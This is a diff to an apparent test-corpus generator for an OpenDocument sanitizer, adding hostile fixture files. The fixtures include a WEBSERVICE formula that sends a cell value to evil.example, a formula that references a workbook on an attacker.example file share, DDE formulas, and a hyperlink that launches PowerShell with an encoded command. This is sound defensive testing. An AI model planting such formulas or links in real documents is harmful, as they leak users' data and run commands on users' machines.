@@ -213,6 +213,9 @@ void external(corpus::Writer& writer) {
       "<table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;https://evil.example/"
       "?q=&quot;&amp;[.A1])\" office:value-type=\"string\" office:string-value=\"x\"><text:p>x"
       "</text:p></table:table-cell>"
+      "<table:table-cell table:formula=\"of:=SUM(['file://attacker.example/share/b.ods'#$Sheet1.A1:"
+      ".A3])\" office:value-type=\"float\" office:value=\"6\"><text:p>6</text:p>"
+      "</table:table-cell>"
       "<table:table-cell table:formula=\"of:=CONCATENATE(&quot;DDE(&quot;;1)\" "
       "office:value-type=\"string\" office:string-value=\"DDE(1\"><text:p>DDE(1</text:p>"
       "</table:table-cell>";
@@ -237,9 +240,9 @@ void external(corpus::Writer& writer) {
                 "table:table-name=\"Sheet1\" table:mode=\"copy-results-only\"/>");
   writer.add(
       "odf/hostile/dde-and-data.ods", zip::testing::build(dde_archive),
-      sanitized({"odf.dde_link", "odf.remote_resource", "odf.data_source"}),
-      "a DDE formula, a WEBSERVICE formula, DDE links, a database range over SQL and a linked "
-      "sheet; a string that only mentions DDE( stays");
+      sanitized({"odf.dde_link", "odf.remote_resource", "odf.data_source", "odf.unsafe_link"}),
+      "a DDE formula, a WEBSERVICE formula, a reference into a workbook on a share, DDE links, a "
+      "database range over SQL and a linked sheet; a string that only mentions DDE( stays");
 
   const std::string validation =
       "<table:content-validations><table:content-validation table:name=\"val1\" "
@@ -264,6 +267,9 @@ void external(corpus::Writer& writer) {
       "<draw:text-box><text:p>次へ Next</text:p></draw:text-box><office:event-listeners>"
       "<presentation:event-listener script:event-name=\"dom:click\" "
       "presentation:action=\"next-page\"/></office:event-listeners></draw:frame>"
+      "<draw:a xlink:href=\"../../powershell.exe%20-NoExit%20-EncodedCommand%20ZQBjAGgAbwA=\">"
+      "<draw:frame svg:x=\"2cm\" svg:y=\"17cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
+      "<draw:text-box><text:p>実行 Run</text:p></draw:text-box></draw:frame></draw:a>"
       "<draw:frame svg:x=\"14cm\" svg:y=\"15cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
       "<draw:text-box><text:p>共有 Share</text:p></draw:text-box><office:event-listeners>"
       "<presentation:event-listener script:event-name=\"dom:click\" presentation:action=\"show\" "
